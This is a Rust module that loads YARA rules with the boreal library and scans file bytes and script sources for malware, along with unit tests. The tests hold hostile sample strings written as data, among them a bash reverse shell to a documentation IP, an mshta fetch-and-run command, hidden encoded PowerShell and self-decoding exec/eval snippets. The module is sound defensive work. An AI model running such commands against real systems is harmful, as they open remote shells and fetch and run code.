//! Rules for malicious files (YARA): our own, and those that somebody imported. They are matched on the bytes of each part and on the source of its
//! macros and scripts.

use std::sync::OnceLock;
use std::time::Duration;

use boreal::compiler::{Compiler, CompilerBuilder, CompilerParams};
use boreal::scanner::ScanParams;
use boreal::{MetadataValue, Scanner};

use crate::observed::{Observable, Observation, observe};

/// Our own rules.
const OWN: &str = include_str!("../rules/hirewall.yar");
/// How long the rules may take for one part.
const MOST: Duration = Duration::from_secs(2);

static SCANNER: OnceLock<Scanner> = OnceLock::new();

/// A file of rules: its name, and what stands in it.
pub type RuleFile = (String, String);

fn compiler() -> Compiler {
    let mut compiler = CompilerBuilder::new().build();
    // An include would read files.
    compiler.set_params(CompilerParams::default().disable_includes(true).disable_unknown_escape_warning(true));
    compiler
}

/// Why a file of rules cannot be used, in the words of the compiler, which name line and column.
pub fn check(text: &str) -> Result<(), String> {
    compiler().add_rules_str(text).map(|_| ()).map_err(|why| why.to_string())
}

/// Compiles our own rules and more. Files that cannot be used are left out: they were told of when they were imported.
pub(crate) fn load(more: &[RuleFile]) {
    let mut all = compiler();
    // What our own rules are is tested.
    let _ = all.add_rules_str_in_namespace(OWN, "hirewall");
    for (name, text) in more.iter().filter(|(_, text)| check(text).is_ok()) {
        let _ = all.add_rules_str_in_namespace(text, name);
    }
    let mut scanner = all.finalize();
    scanner.set_scan_params(ScanParams::default().timeout_duration(Some(MOST)).string_max_nb_matches(100).match_max_length(64));
    let _ = SCANNER.set(scanner);
}

fn scanner() -> Option<&'static Scanner> {
    if SCANNER.get().is_none() {
        load(&[]);
    }
    SCANNER.get()
}

/// Matches all rules on some bytes.
pub(crate) fn look(bytes: &[u8], observed: &mut Vec<Observation>) {
    let Some(scanner) = scanner() else { return };
    // What matched before the time was up counts.
    let found = match scanner.scan_mem(bytes) {
        Ok(found) => found,
        Err((_, part)) => part,
    };
    for rule in &found.rules {
        let grave = rule.metadatas.iter().any(|meta| {
            let severity = scanner.get_string_symbol(meta.name) == "severity";
            severity && matches!(meta.value, MetadataValue::Bytes(word) if scanner.get_bytes_symbol(word) == b"dangerous")
        });
        observe(observed, if grave { Observable::GraveRule } else { Observable::Rule }, rule.name);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Vec<String> {
        let mut observed = Vec::new();
        look(text.as_bytes(), &mut observed);
        observed.into_iter().filter_map(|o| o.detail).collect()
    }

    #[test]
    fn our_own_rules_compile() {
        assert_eq!(check(OWN), Ok(()));
        assert!(check("rule x { condition: nothing }").is_err());
        assert!(check("include \"/etc/passwd\"").is_err());
    }

    #[test]
    fn each_rule_fires_on_what_it_is_for() {
        let code = "A".repeat(80);
        let names = "_0xa1b2c3 ".repeat(40);
        for (text, rule) in [
            ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".to_owned(), "eicar_test_file"),
            (format!("powershell.exe -w hidden -enc {code}"), "encoded_powershell"),
            ("mshta.exe http://203.0.113.9/x".to_owned(), "fetches_and_runs"),
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".to_owned(), "shell_to_elsewhere"),
            ("exec(__import__('base64').b64decode('cHJpbnQoMSk='))".to_owned(), "python_that_unpacks_itself"),
            ("eval(atob('YWxlcnQoMSk='))".to_owned(), "script_that_fetches_code"),
            (format!("{names} require('child_process')"), "disguised_script_with_processes"),
            ("nkbihfbeogaeaoehlefnkodbefgpgknn ejbalbakoplchlghecdalmeeeajnimhm".to_owned(), "collects_wallets_and_passwords"),
        ] {
            assert!(seen(&text).contains(&rule.to_owned()), "{rule}: {:?}", seen(&text));
        }
    }

    #[test]
    fn no_rule_fires_on_what_engineers_write() {
        for text in [
            "Analysed droppers that abuse mshta.exe, certutil and encoded PowerShell.",
            "const x = JSON.parse(response.data); export default x;",
            "import base64\nprint(base64.b64decode('aGk='))",
            "Wrote a browser extension and a Chrome 'Login Data' migration.",
        ] {
            assert_eq!(seen(text), [] as [String; 0], "{text}");
        }
    }
}
